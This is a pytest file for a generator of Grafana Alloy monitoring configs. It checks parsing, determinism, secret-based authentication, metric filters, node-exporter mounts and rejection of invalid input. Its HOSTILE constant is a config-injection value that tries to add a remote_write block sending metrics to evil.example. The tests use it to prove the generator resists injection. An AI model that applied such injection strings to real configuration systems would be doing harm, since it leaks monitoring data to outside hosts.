"""The generated Alloy configuration: parseable, deterministic, injection-proof, and correct."""

from __future__ import annotations

import dataclasses

import pytest

from fleet.verify.dataflow import check_workload_alloy
from kit.alloy.parser import parse
from kit.alloy.syntax import Attribute, Block, Call, Expr, Index, Literal, Object, components
from kit.alloy.syntax import reference_chain as chain_of
from kit.alloy.writer import quote
from workloads.alloy_config import AlloyPipeline, render_alloy_config

CENTRAL = "https://mimir.ctrl.example.com/api/v1/push"
HOSTILE = 'evil"}\nprometheus.remote_write "leak" {\n  endpoint { url = "https://evil.example/" }\n}\\'


def pipeline(**changes: object) -> AlloyPipeline:
    base = AlloyPipeline(
        workload="shop-eu",
        local_metrics_url="http://mimir-gateway.mimir.svc.cluster.local/api/v1/push",
        central_metrics_url=CENTRAL,
        central_secret_namespace="alloy",
    )
    return dataclasses.replace(base, **changes)  # type: ignore[arg-type]


def blocks_by_id(text: str) -> dict[str, Block]:
    return dict(components(parse(text)))


PIPELINES = {
    "defaults": pipeline(),
    "filters and namespaces": pipeline(
        namespaces=("payments", "checkout"), central_metric_filters=("up", "kube_.*", "up")
    ),
    "no journal": pipeline(system_logs=False, workload="a"),
    "hostile strings": pipeline(
        namespaces=(HOSTILE, "tab\tand\x00nul"),
        central_metric_filters=(r'node_\w+"}', "}\n{"),
        central_secret_name=HOSTILE,
        central_secret_key='key"]',
        central_secret_namespace="ns\\",
    ),
}


@pytest.mark.parametrize("name", PIPELINES)
def test_every_generated_config_parses_and_passes_verification(name: str) -> None:
    config = PIPELINES[name]
    text = render_alloy_config(config)
    assert check_workload_alloy(text, config.workload, CENTRAL) == []


@pytest.mark.parametrize("name", PIPELINES)
def test_output_is_deterministic(name: str) -> None:
    config = PIPELINES[name]
    again = dataclasses.replace(config)
    assert render_alloy_config(config) == render_alloy_config(again)


def test_hostile_strings_stay_inside_their_literals() -> None:
    config = PIPELINES["hostile strings"]
    found = blocks_by_id(render_alloy_config(config))
    # The same components as a harmless config: nothing was injected.
    assert found.keys() == blocks_by_id(render_alloy_config(pipeline(namespaces=("x",)))).keys()
    (namespaces,) = found["discovery.kubernetes.pods"].blocks("namespaces")
    assert namespaces.attribute("names") == parse_list(config.namespaces)
    secret = found["remote.kubernetes.secret.central_auth"]
    assert secret.attribute("name") == Literal(HOSTILE)
    assert secret.attribute("namespace") == Literal("ns\\")
    password = central_auth(found).attribute("password")
    assert isinstance(password, Index)
    assert password.index == Literal('key"]')


def parse_list(values: tuple[str, ...]) -> Expr:
    (item,) = parse(f"a = [{', '.join(quote(v) for v in values)}]").body
    assert isinstance(item, Attribute)
    return item.value


def central_auth(found: dict[str, Block]) -> Block:
    (endpoint,) = found["prometheus.remote_write.central"].blocks("endpoint")
    (auth,) = endpoint.blocks("basic_auth")
    return auth


def test_central_endpoint_authenticates_with_a_secret_not_a_literal() -> None:
    found = blocks_by_id(render_alloy_config(pipeline(central_secret_key="pw")))
    auth = central_auth(found)
    assert auth.attribute("username") == Literal("shop-eu")
    password = auth.attribute("password")
    assert isinstance(password, Index)
    assert chain_of(password.value) == ("remote", "kubernetes", "secret", "central_auth", "data")
    assert password.index == Literal("pw")
    secret = found["remote.kubernetes.secret.central_auth"]
    assert secret.attribute("namespace") == Literal("alloy")
    assert secret.attribute("name") == Literal("mimir-auth")
    (local_endpoint,) = found["prometheus.remote_write.local"].blocks("endpoint")
    assert local_endpoint.blocks("basic_auth") == []


def test_metric_filters_apply_to_the_central_endpoint_only() -> None:
    found = blocks_by_id(render_alloy_config(pipeline(central_metric_filters=("up", "kube_.*", "up"))))
    (central,) = found["prometheus.remote_write.central"].blocks("endpoint")
    (rule,) = central.blocks("write_relabel_config")
    assert rule.attribute("action") == Literal("keep")
    assert rule.attribute("regex") == Literal("(?:up)|(?:kube_.*)")
    assert rule.attribute("source_labels") == parse_list(("__name__",))
    (local,) = found["prometheus.remote_write.local"].blocks("endpoint")
    assert local.blocks("write_relabel_config") == []


def test_no_filter_sends_every_metric_to_the_control_room() -> None:
    found = blocks_by_id(render_alloy_config(pipeline()))
    (central,) = found["prometheus.remote_write.central"].blocks("endpoint")
    assert central.blocks("write_relabel_config") == []


def test_namespaces_limit_pod_discovery_and_default_to_all() -> None:
    everything = blocks_by_id(render_alloy_config(pipeline()))
    assert everything["discovery.kubernetes.pods"].blocks("namespaces") == []
    limited = blocks_by_id(render_alloy_config(pipeline(namespaces=("a", "b"))))
    (namespaces,) = limited["discovery.kubernetes.pods"].blocks("namespaces")
    assert namespaces.attribute("names") == parse_list(("a", "b"))


def test_journal_logs_are_optional() -> None:
    on = blocks_by_id(render_alloy_config(pipeline(system_logs=True)))
    off = blocks_by_id(render_alloy_config(pipeline(system_logs=False)))
    assert "loki.source.journal.system" in on
    assert "loki.source.journal.system" not in off
    assert "loki.source.kubernetes.pods" in off


def test_every_writer_labels_data_with_the_workload() -> None:
    found = blocks_by_id(render_alloy_config(pipeline()))
    writers = [cid for cid in found if cid.startswith(("prometheus.remote_write", "loki.write"))]
    assert sorted(writers) == [
        "loki.write.local",
        "prometheus.remote_write.central",
        "prometheus.remote_write.local",
    ]
    for writer in writers:
        labels = found[writer].attribute("external_labels")
        assert isinstance(labels, Object)
        assert labels.get("workload") == Literal("shop-eu")


def test_scrapes_cover_pods_kubelet_cadvisor_node_exporter_and_kube_state_metrics() -> None:
    found = blocks_by_id(render_alloy_config(pipeline()))
    scrapes = sorted(cid for cid in found if cid.startswith("prometheus.scrape."))
    assert scrapes == [
        "prometheus.scrape.alloy",  # Alloy's own metrics, each pod its own (not clustered)
        "prometheus.scrape.cadvisor",
        "prometheus.scrape.kube_state_metrics",
        "prometheus.scrape.kubelet",
        "prometheus.scrape.node_exporter",
        "prometheus.scrape.pods",
    ]


def test_node_exporter_reads_the_host_mounts_and_each_pod_scrapes_its_own_node() -> None:
    config = pipeline(host_root="/node", procfs_path="/node-proc", sysfs_path="/node-sys")
    found = blocks_by_id(render_alloy_config(config))
    exporter = found["prometheus.exporter.unix.node"]
    assert exporter.attribute("procfs_path") == Literal("/node-proc")
    assert exporter.attribute("sysfs_path") == Literal("/node-sys")
    assert exporter.attribute("rootfs_path") == Literal("/node")
    assert exporter.attribute("udev_data_path") == Literal("/node/run/udev/data")
    relabel = found["discovery.relabel.node_exporter"]
    assert chain_of(relabel.attribute("targets")) == (  # type: ignore[arg-type]
        "prometheus",
        "exporter",
        "unix",
        "node",
        "targets",
    )
    # The exporter names its target after the pod; the series must name the node.
    relabelled = {
        rule.attribute("target_label"): rule.attribute("replacement") for rule in relabel.blocks("rule")
    }
    assert relabelled.keys() == {Literal("instance"), Literal("node")}
    for replacement in relabelled.values():
        assert isinstance(replacement, Call)
        assert chain_of(replacement.function) == ("sys", "env")
        assert replacement.args == (Literal("HOSTNAME"),)
    scrape = found["prometheus.scrape.node_exporter"]
    assert chain_of(scrape.attribute("targets")) == (  # type: ignore[arg-type]
        "discovery",
        "relabel",
        "node_exporter",
        "output",
    )
    # A clustered scrape would hand this node's target to a pod on another node.
    assert scrape.blocks("clustering") == []
    assert found["prometheus.scrape.pods"].blocks("clustering") != []


def test_default_host_mounts() -> None:
    exporter = blocks_by_id(render_alloy_config(pipeline()))["prometheus.exporter.unix.node"]
    assert exporter.attribute("procfs_path") == Literal("/host/proc")
    assert exporter.attribute("sysfs_path") == Literal("/host/sys")
    assert exporter.attribute("rootfs_path") == Literal("/host/root")


@pytest.mark.parametrize(
    ("changes", "fragment"),
    [
        ({"workload": "Shop"}, "DNS-1123"),
        ({"workload": "a" * 64}, "DNS-1123"),
        ({"workload": "shop\n"}, "DNS-1123"),
        ({"central_metrics_url": "http://mimir.ctrl.example.com/api/v1/push"}, "https"),
        ({"local_metrics_url": "mimir-gateway/api/v1/push"}, "not an http(s) URL"),
        ({"local_logs_url": "ftp://loki/push"}, "not an http(s) URL"),
        ({"central_metric_filters": ("(unclosed",)}, "not a regex"),
        ({"central_secret_key": ""}, "must not be empty"),
        ({"namespaces": ("",)}, "empty name"),
        ({"procfs_path": "proc"}, "not an absolute path"),
        ({"host_root": ""}, "not an absolute path"),
        ({"sysfs_path": "/sys\n"}, "not an absolute path"),
    ],
)
def test_invalid_pipelines_are_rejected(changes: dict[str, object], fragment: str) -> None:
    with pytest.raises(ValueError) as caught:
        pipeline(**changes)
    assert fragment in str(caught.value)


def test_self_monitoring_and_the_hubs_metrics_pass_any_filter() -> None:
    """Alloy scrapes itself and the stack's Mimir, Loki and Grafana by port name; a central filter
    keeps what the user asked for plus every metric the hub's alerts read, and nothing else."""
    import re

    from kit.alerting.catalogue import HUB_READS_FROM_WORKLOADS

    pipeline = AlloyPipeline(
        workload="shop",
        local_metrics_url="http://mimir-gateway.mimir.svc.cluster.local/api/v1/push",
        central_metrics_url="https://mimir.ctrl.example/api/v1/push",
        central_secret_namespace="alloy",
        central_metric_filters=("http_requests_total",),
        stack_namespaces=("mimir", "loki", "grafana"),
        central_required_metrics=HUB_READS_FROM_WORKLOADS,
    )
    text = render_alloy_config(pipeline)
    found = dict(components(parse(text)))
    assert "prometheus.exporter.self.alloy" in found
    stack = found["discovery.relabel.stack"]
    (port_rule,) = [
        r for r in stack.body if isinstance(r, Block) and r.attribute("action") == Literal("keep")
    ]
    assert port_rule.attribute("regex") == Literal("http-metrics|grafana")
    (endpoint,) = [b for b in found["prometheus.remote_write.central"].body if isinstance(b, Block)]
    (relabel,) = [b for b in endpoint.body if isinstance(b, Block) and b.name == "write_relabel_config"]
    regex = relabel.attribute("regex")
    assert isinstance(regex, Literal) and isinstance(regex.value, str)
    keep = re.compile(regex.value)  # Alloy anchors relabel regexes at both ends: fullmatch
    assert all(keep.fullmatch(name) for name in HUB_READS_FROM_WORKLOADS)
    assert keep.fullmatch("http_requests_total")
    assert not keep.fullmatch("container_memory_working_set_bytes")


def test_the_events_collector_is_scraped_as_an_alloy_when_there_is_one() -> None:
    selector = "app.kubernetes.io/name=alloy,app.kubernetes.io/instance=alloy-events"
    text = render_alloy_config(pipeline(events_collector_selector=selector))
    assert check_workload_alloy(text, "shop-eu", CENTRAL) == []
    found = blocks_by_id(text)
    discovery = found["discovery.kubernetes.alloy_events"]
    (selectors,) = discovery.blocks("selectors")
    assert selectors.attribute("label") == Literal(selector)
    (namespaces,) = discovery.blocks("namespaces")
    assert namespaces.attribute("names") is not None
    scrape = found["prometheus.scrape.alloy_events"]
    assert scrape.attribute("job_name") == Literal("alloy")  # the pipeline's alerts read job="alloy"
    assert "prometheus.scrape.alloy_events" not in blocks_by_id(render_alloy_config(pipeline()))
